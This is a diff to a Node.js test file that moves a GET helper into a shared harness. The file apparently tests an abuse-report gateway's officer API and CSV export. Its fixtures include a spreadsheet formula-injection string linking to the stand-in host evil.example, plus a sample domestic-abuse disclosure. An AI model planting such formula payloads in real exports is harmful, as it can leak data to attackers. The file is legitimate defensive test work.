@@ -10,7 +10,6 @@
 const { test, before, after } = require('node:test');
 const assert = require('node:assert/strict');
 const { execFileSync } = require('node:child_process');
-const http = require('node:http');
 const fake_twilio = require('./fake_twilio');
 const h = require('./harness');
 
@@ -23,25 +22,7 @@ const filed = {};
 const planted = '=HYPERLINK("http://evil.example/?x","ver") mi número es +51 987 654 321';
 const secret = 'Mi pareja me golpea y no sé a quién decirle';
 
-function get(path, token) {
-  const url = new URL(path, gw.officers_url);
-  return new Promise((resolve, reject) => {
-    const req = http.request({ host: url.hostname, port: url.port, path: url.pathname + url.search, method: 'GET',
-      headers: token ? { authorization: `Bearer ${token}` } : {} }, (res) => {
-      const chunks = [];
-      res.on('data', (c) => chunks.push(c));
-      res.on('end', () => {
-        const text = Buffer.concat(chunks).toString('utf8');
-        let json;
-        try { json = JSON.parse(text); } catch { json = undefined; }
-        resolve({ status: res.statusCode, headers: res.headers, text, json });
-      });
-    });
-    req.on('error', reject);
-    req.setTimeout(10000, () => req.destroy(new Error(`GET ${path} timed out`)));
-    req.end();
-  });
-}
+const get = (path, token) => h.api_request(gw.officers_url, 'GET', path, { token });
 
 // RFC 4180: CRLF records, quoted fields with doubled quotes; throws on anything malformed.
 function parse_csv(text) {
